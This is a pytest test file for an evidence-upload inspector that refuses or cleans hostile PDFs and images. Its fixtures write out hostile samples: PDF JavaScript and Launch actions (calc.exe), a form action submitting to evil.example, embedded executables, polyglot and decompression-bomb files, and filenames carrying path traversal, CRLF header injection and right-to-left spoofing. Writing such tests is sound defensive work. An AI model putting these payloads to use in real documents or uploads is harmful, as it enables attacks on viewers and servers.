"""Evidence is looked into before it is kept, and leaves as a download only."""

from __future__ import annotations

import resource
import subprocess
import sys
from io import BytesIO

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name
from PIL import Image
from werkzeug.datastructures import FileStorage

from certreg.errors import RefusedError, UnreadableError
from certreg.files import confined, evidence, store

JPEG_HEAD = b"\xff\xd8\xff"


def upload(content, name="证明.pdf"):
    return FileStorage(BytesIO(content), filename=name)


def pdf(change=None, pages=1, **options):
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page()
    if change:
        change(made)
    out = BytesIO()
    made.save(out, **options)
    return out.getvalue()


def picture(size=(40, 30), kind="JPEG", mode="RGB", colour="red", **options):
    out = BytesIO()
    Image.new(mode, size, colour).save(out, kind, **options)
    return out.getvalue()


def run_script(made):
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def run_script_from_a_deep_place(made):
    action = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    made.Root.PieceInfo = Dictionary(A=Array([Array([Dictionary(B=Array([action]))])]))


def launch(made):
    action = Dictionary(S=Name.Launch, F="calc.exe")
    made.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, A=action)])


def submit_a_form(made):
    made.pages[0].AA = Dictionary(O=Dictionary(S=Name.SubmitForm, F="https://evil.example"))


def carry_a_form_of_its_own(made):
    made.Root.AcroForm = Dictionary(Fields=Array(), XFA=made.make_stream(b"<xdp/>"))


def carry_a_file(made):
    made.attachments["x.exe"] = b"MZ"


def link_to_a_page(made):
    action = Dictionary(S=Name.URI, URI="https://www.gov.cn/")
    made.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, A=action)])


def test_a_plain_pdf_is_kept_as_it_is(session):
    content = pdf(link_to_a_page, pages=50)
    row = evidence.accept(upload(content))
    assert store.read(row) == content
    assert (row.media_type, row.name) == ("application/pdf", "证明.pdf")


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (pdf(run_script), "active"),
        (pdf(run_script_from_a_deep_place), "active"),
        (pdf(run_script, object_stream_mode=pikepdf.ObjectStreamMode.generate), "active"),
        (pdf(launch), "active"),
        (pdf(submit_a_form), "active"),
        (pdf(carry_a_form_of_its_own), "active"),
        (pdf(carry_a_file), "embedded"),
        (pdf(pages=51), "pages"),
        (pdf(pages=0), "pages"),
        (pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "encrypted"),
        (pdf(encryption=pikepdf.Encryption(owner="o", user="")), "encrypted"),
        (pdf() + b"PK\x05\x06" + bytes(18), "trailing"),
        (b"PK\x03\x04" + pdf(), "foreign_kind"),
        (b"MZ\x90\x00", "foreign_kind"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "foreign_kind"),
        (b"GIF89a", "foreign_kind"),
        (b"", "foreign_kind"),
        (b"%PDF-1.7" + bytes(evidence.LARGEST), "too_large"),
        (picture((8000, 7000), "PNG", "1", 1), "pixels"),
    ],
)
@pytest.mark.long
def test_what_acts_hides_or_floods_is_refused(content, reason):
    with pytest.raises(RefusedError) as refusal:
        evidence.inspect(upload(content))
    assert refusal.value.reason == reason


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7\nnothing of the kind\n%%EOF",
        pdf()[:200] + b"%%EOF",
        picture()[:200],
        JPEG_HEAD + b"nothing",
        b"\x89PNG\r\n\x1a\n" + bytes(100),
        picture(kind="PNG")[:60],
    ],
)
def test_what_cannot_be_read_is_said_to_be_unreadable(content):
    with pytest.raises(UnreadableError):
        evidence.inspect(upload(content))


def test_a_photo_becomes_a_fresh_picture_without_anything_else_in_it():
    exif = Image.Exif()
    exif[0x010E] = "taken at a secret place"
    exif[0x0112] = 6  # lies on its side
    original = picture((60, 20), exif=exif) + b"PK\x03\x04 hidden behind"
    found = evidence.inspect(upload(original, "照片.jpeg"))
    assert found.media_type == "image/jpeg"
    assert b"secret" not in found.content
    assert b"hidden" not in found.content
    with Image.open(BytesIO(found.content)) as shown:
        assert (shown.size, shown.format) == ((20, 60), "JPEG")
        assert not shown.getexif()


@pytest.mark.parametrize(("mode", "colour"), [("RGBA", (0, 0, 0, 0)), ("LA", (0, 0))])
def test_what_is_transparent_becomes_white_paper(mode, colour):
    found = evidence.inspect(upload(picture(kind="PNG", mode=mode, colour=colour), "章.png"))
    assert found.name == "章.jpg"
    with Image.open(BytesIO(found.content)) as shown:
        assert min(shown.convert("L").tobytes()) > 250


def test_a_large_photo_is_kept_legible_but_smaller():
    found = evidence.inspect(upload(picture((6000, 3000))))
    with Image.open(BytesIO(found.content)) as shown:
        assert shown.size == (4000, 2000)


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\me\\营业执照.PDF", "营业执照.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie: x.pdf"),
        ("evil\u202efdp.exe", "evilfdp.pdf"),
        ("nul\x00byte.pdf", "nulbyte.pdf"),
        ("x" * 300 + ".pdf", "x" * 100 + ".pdf"),
        ("", "file.pdf"),
        (None, "file.pdf"),
    ],
)
def test_the_name_is_harmless(given, kept):
    assert evidence.inspect(upload(pdf(), given)).name == kept


@pytest.mark.parametrize("name", ["营业执照.pdf", 'quo"te; x=.pdf', "a\\b.pdf"])
def test_a_served_file_is_a_download_in_nobodys_name(app, session, name):
    row = evidence.accept(upload(pdf(), name))
    with app.test_request_context():
        answer = evidence.serve(row)
        answer.direct_passthrough = False
        assert answer.data == store.read(row)
    assert answer.headers["Content-Disposition"].startswith("attachment; filename")
    assert answer.headers["Content-Security-Policy"] == "sandbox; default-src 'none'"


@pytest.mark.long
def test_a_picture_that_unpacks_to_more_than_the_child_may_hold_is_unreadable():
    flood = picture((7000, 7000), "PNG", "RGBA", 0)
    assert len(flood) < 250_000
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(UnreadableError):
        evidence.inspect(upload(flood))
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 20_000  # kB, of ours


def test_the_child_gives_up_memory_time_and_writing():
    probe = (
        "from certreg.files import confined; confined.limit()\n"
        "import resource as r\n"
        "kinds = r.RLIMIT_AS, r.RLIMIT_CPU, r.RLIMIT_FSIZE, r.RLIMIT_CORE\n"
        "print([r.getrlimit(kind)[1] for kind in kinds])"
    )
    said = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, check=True)
    assert said.stdout.strip() == str([confined.MEMORY, confined.SECONDS, 0, 0])


def test_a_child_that_runs_for_ever_is_stopped(monkeypatch):
    monkeypatch.setattr(confined, "SECONDS", 0.005)
    with pytest.raises(UnreadableError):
        confined.run("certreg.files.inspection", pdf(), "application/pdf")
